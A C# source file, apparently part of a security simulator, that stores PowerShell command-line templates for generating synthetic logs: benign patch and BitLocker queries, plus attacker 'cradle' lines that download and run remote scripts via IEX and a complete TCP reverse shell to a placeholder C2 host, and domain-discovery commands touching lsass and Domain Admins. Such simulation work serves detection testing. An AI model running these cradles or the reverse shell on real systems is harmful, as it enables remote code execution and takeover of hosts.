namespace Changeling.Simulation.Words;

/// <summary>PowerShell that command lines carry encoded: management agents' own, and attackers'.</summary>
internal static class Scripts
{
    public static string[] Find(string name) => name switch
    {
        "management" => Management,
        "cradle" => Cradle,
        "discovery" => Discovery,
        _ => throw new ArgumentException($"No script is called {name}.", nameof(name)),
    };

    private static readonly string[] Management =
    [
        "$ErrorActionPreference='Stop'; Get-CimInstance -ClassName Win32_QuickFixEngineering | Select-Object HotFixID,InstalledOn | ConvertTo-Json",
        "(Get-ItemProperty 'HKLM:\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion').CurrentBuild",
        "Get-BitLockerVolume -MountPoint C: | Select-Object -ExpandProperty ProtectionStatus",
        "try { (Get-MpComputerStatus).AntivirusSignatureAge } catch { 99 }",
    ];

    private static readonly string[] Cradle =
    [
        "IEX (New-Object Net.WebClient).DownloadString('<=bad-url>/<=bad-file>.ps1')",
        "$w=New-Object Net.WebClient;$w.Headers.Add('User-Agent','Mozilla/5.0');$w.DownloadString('<=bad-url>/<=bad-file>')|IEX",
        "[Net.ServicePointManager]::SecurityProtocol=3072;iwr <=bad-url>/<=bad-file>.txt -UseBasicParsing|iex",
        "$c=New-Object Net.Sockets.TCPClient('<=c2>',<num:4000-9000>);$s=$c.GetStream();[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0){;$d=(New-Object Text.ASCIIEncoding).GetString($b,0,$i);$r=(iex $d 2>&1|Out-String);$x=([text.encoding]::ASCII).GetBytes($r);$s.Write($x,0,$x.Length)}",
    ];

    private static readonly string[] Discovery =
    [
        "whoami /all; Get-Process lsass; net group 'Domain Admins' /domain",
        "Get-WmiObject Win32_ComputerSystem | Select Domain,UserName; nltest /domain_trusts",
    ];
}
